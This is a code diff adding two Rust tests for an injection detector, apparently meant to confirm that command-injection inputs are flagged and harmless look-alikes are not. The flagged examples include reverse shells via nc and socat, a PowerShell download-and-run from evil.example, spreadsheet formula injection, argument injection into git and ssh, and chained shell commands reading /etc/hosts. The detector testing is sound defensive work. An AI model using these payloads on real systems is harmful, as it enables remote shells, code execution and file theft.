@@ -104,6 +104,77 @@ fn finds_sql_that_is_joined_called_or_cut_short_in_other_words() {
 }
 
 #[test]
+fn finds_commands_that_other_programs_than_a_shell_run() {
+    assert_found(
+        Class::Command,
+        &[
+            "=cmd|' /C calc'!A0",
+            "-2+3+cmd|'/c calc'!D2",
+            "--upload-pack=touch /tmp/x",
+            "-oProxyCommand=id",
+            "'.print(md5(7)).'",
+            "\".phpversion().\"",
+            "subprocess.check_output(['id'])",
+            "\"cat /etc/hosts\".execute().text",
+            "<!--#printenv -->",
+            "nc -c bash 192.0.2.7 99",
+            "socat tcp:192.0.2.7:99 exec:'bash -li',pty",
+            "IEX(New-Object Net.WebClient).DownloadString('http://evil.example/x')",
+        ],
+    );
+    for value in [
+        "=IF(A1>5,'yes'|'no')",
+        "-o ProxyJump=bastion",
+        "--use-compress",
+        "'.', ',' and (a).",
+        "\".\" (a dot).\"",
+        "task.execute()",
+        "<!--#region-->",
+        "socat is like netcat",
+        "iex is a shell of Elixir",
+    ] {
+        assert_eq!(rule_of(value), None, "{value}");
+    }
+}
+
+#[test]
+fn finds_commands_that_end_a_line_behind_others_or_name_a_file() {
+    assert_found(
+        Class::Command,
+        &[
+            ";time id",
+            ";timeout 9 whoami",
+            ";su root",
+            "|ip addr",
+            ";id 2>&1",
+            "||id||",
+            "7;c${x}at /etc/hosts",
+            ";/bin/c?t /etc/hosts",
+            "x;cat index.php",
+            "x&type web.config",
+            "x;chmod 777 a",
+            "x;apt-get install a",
+            "x;echo abcd",
+            "x&net user",
+            "x;cat < /etc/hosts",
+        ],
+    );
+    for value in [
+        "it took long; time flies",
+        "name; ip address",
+        "closure(|dir: Dir, mut cmd: Cmd| {})",
+        "^(nodejs.*|python.*)$",
+        "data:image/png;base64,iVBORw0KGgo=",
+        "see below; type in.put here",
+        "a=1;date=2020-01-01;time=12.5",
+        "while (x; time < 5)",
+        "x||time||y",
+    ] {
+        assert_eq!(rule_of(value), None, "{value}");
+    }
+}
+
+#[test]
 fn finds_names_of_files_whatever_stands_around_them() {
     assert_found(
         Class::Path,
